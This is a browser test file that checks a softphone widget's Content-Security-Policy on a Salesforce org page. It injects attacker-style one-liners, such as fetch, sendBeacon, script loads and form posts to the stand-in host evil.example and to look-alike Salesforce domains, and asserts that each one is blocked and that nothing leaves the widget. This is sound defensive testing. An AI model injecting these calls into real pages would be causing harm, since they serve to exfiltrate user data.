// The Content-Security-Policy that ships: a call under it breaks none of its rules, and what it forbids does not leave the
// widget. The demo stands in for an org at its real name; the headers are those of `dist/widget/_headers`.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { launchChromium } from './lib/browser.mjs';
import { until } from './lib/until.mjs';
import { Widget } from './lib/widget.mjs';

const BASE = process.env.BASE_URL ?? 'http://localhost:8080/';
const ORG = 'https://acme.lightning.force.com';
const HOST = 'https://softphone.example.com';

let browser;
let shipped;
before(async () => {
  browser = await launchChromium({ hosts: 'MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1' });
  const lines = (await (await fetch(new URL('widget/_headers', BASE))).text()).split('\n').slice(1);
  shipped = Object.fromEntries(lines.filter(Boolean).map((line) => /^ {2}([^:]+): (.*)$/.exec(line).slice(1)));
  assert.match(shipped['Content-Security-Policy'], /^default-src 'none'; /);
});
after(() => browser?.close());

/** A page in which `host` is served from `dist/`, the widget with `headers`; `scripts` are more files of it. */
async function open(t, host, { headers = shipped, scripts = {} } = {}) {
  const context = await browser.newContext({ locale: 'en-GB', viewport: { width: 1280, height: 800 } });
  t.after(async () => {
    await context.unrouteAll({ behavior: 'wait' }); // what is still being fetched for later
    await context.close();
  });
  const violations = [];
  const left = [];
  await context.exposeBinding('broken', (_, rule) => violations.push(rule));
  await context.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) =>
      window.broken(`${event.effectiveDirective}: ${event.blockedURI || 'inline'}`),
    ),
  );
  await context.route(
    (url) => /^(https?|wss?):$/.test(url.protocol),
    async (route) => {
      const url = new URL(route.request().url());
      if (url.origin !== host) {
        left.push(url.href);
        return route.abort();
      }
      const own = scripts[url.pathname];
      const response = await route.fetch({ url: new URL(own === undefined ? url.pathname : 'widget/boot.js', BASE).href });
      const { 'content-encoding': _, 'content-length': __, 'content-security-policy': ___, ...rest } = response.headers();
      const named = url.pathname.startsWith('/widget/') ? headers : {};
      const sent = Object.fromEntries(Object.entries(named).map(([name, value]) => [name.toLowerCase(), value]));
      await route.fulfill({ response, headers: { ...rest, ...sent }, ...(own === undefined ? {} : { body: own }) });
    },
  );
  const page = await context.newPage();
  return { context, page, violations, left };
}

test('a call, and every screen of the widget, under the policy that ships', async (t) => {
  const { page, violations, left } = await open(t, ORG);
  const widget = Widget.framedIn(page);
  await page.goto(`${ORG}/`);
  await widget.isDrawn();
  await widget.hasPractised({ note: 'Under the policy.' });
  await widget.savingReads(/^Saved \d/);
  for (const screen of await widget.locator('[data-screen]').all()) await screen.click();
  assert.deepEqual(violations, []);
  assert.deepEqual(left, []);
});

/** What an attacker's script would try, were it there; each with the directive that it breaks. */
const ATTEMPTS = {
  'script-src': ["new Function('return 1')()", "eval('1')"],
  'script-src-elem': [
    "append('script', { textContent: '1' })",
    "append('script', { src: 'https://evil.example/x.js' })",
    "append('script', { src: 'data:text/javascript,1' })",
    // Names that only look like Salesforce's.
    "append('script', { src: 'https://acme.lightning.force.com.evil.example/x.js' })",
    "append('script', { src: 'https://evilforce.com/x.js' })",
    "append('script', { src: 'http://acme.lightning.force.com/x.js' })",
  ],
  'connect-src': [
    "fetch('https://evil.example/?numbers')",
    "fetch('https://acme.my.salesforce.com/services/data')",
    "new EventSource('https://evil.example/')",
    "navigator.sendBeacon('https://evil.example/', 'x')",
    "new XMLHttpRequest().open('GET', 'https://evil.example/') || send('https://evil.example/')",
  ],
  'worker-src': ["new Worker(URL.createObjectURL(new Blob(['1'])))", "new Worker('data:text/javascript,1')"],
  'img-src': ["append('img', { src: 'https://evil.example/x.png' })"],
  'style-src-elem': ["append('style', { textContent: 'p { color: red }' })", "append('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })"],
  'media-src': ["append('audio', { src: 'https://evil.example/x.ogg' })", "append('audio', { src: URL.createObjectURL(new Blob([])) })"],
  'frame-src': ["append('iframe', { src: 'https://evil.example/' })"],
  'object-src': ["append('object', { data: 'https://evil.example/' })"],
  'font-src': ["new FontFace('x', 'url(https://evil.example/x.woff)').load()"],
  'base-uri': ["append('base', { href: 'https://evil.example/' })"],
  'form-action': ["append('form', { action: 'https://evil.example/', method: 'post' }).submit()"],
};

const TOOLS = `
  const append = (name, attributes) => {
    const element = Object.assign(document.createElement(name), attributes);
    document.body.append(element);
    return element;
  };
  const send = (url) => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); };
`;

for (const [directive, attempts] of Object.entries(ATTEMPTS)) {
  test(`${directive} holds`, async (t) => {
    const scripts = Object.fromEntries(
      attempts.map((attempt, at) => [`/widget/attempt-${at}.js`, `{ ${TOOLS} Promise.resolve().then(() => ${attempt}).catch(() => {}); }`]),
    );
    const { page, violations, left } = await open(t, HOST, { scripts });
    await page.goto(`${HOST}/widget/`);
    await Widget.alone(page).isDrawn();
    for (const [at, attempt] of attempts.entries()) {
      violations.length = 0;
      await page.evaluate((src) => {
        document.body.append(Object.assign(document.createElement('script'), { src }));
      }, `/widget/attempt-${at}.js`);
      await until(`${attempt} to be refused`, () => violations.some((rule) => rule.startsWith(`${directive}: `)));
    }
    assert.deepEqual(left, [], 'nothing left the widget');
  });
}

test('where the administrator named the PBX, no other is reached', async (t) => {
  const attempt = (url) => `new WebSocket('${url}').onerror = () => window.broken('no answer: ${url}')`;
  const scripts = {
    '/widget/named.js': attempt('wss://pbx.example.com/ws'),
    '/widget/other.js': attempt('wss://pbx.example.com.evil.example/ws'),
  };
  const headers = { ...shipped, 'Content-Security-Policy': process.env.NARROW_POLICY };
  assert.ok(process.env.NARROW_POLICY, 'cargo xtask gives it');
  for (const [policy, others] of [[headers, 'connect-src: wss://pbx.example.com.evil.example/ws'], [shipped, 'no answer: wss://pbx.example.com.evil.example/ws']]) {
    const { page, violations } = await open(t, HOST, { headers: policy, scripts });
    await page.goto(`${HOST}/widget/`);
    await Widget.alone(page).isDrawn();
    for (const file of ['named', 'other']) {
      await page.evaluate((src) => {
        document.body.append(Object.assign(document.createElement('script'), { src }));
      }, `/widget/${file}.js`);
    }
    await until('both to fail', () => violations, (found) => found.includes('no answer: wss://pbx.example.com/ws') && found.includes(others));
    assert.equal(violations.some((rule) => rule.startsWith('connect-src: wss://pbx.example.com/')), false);
  }
});
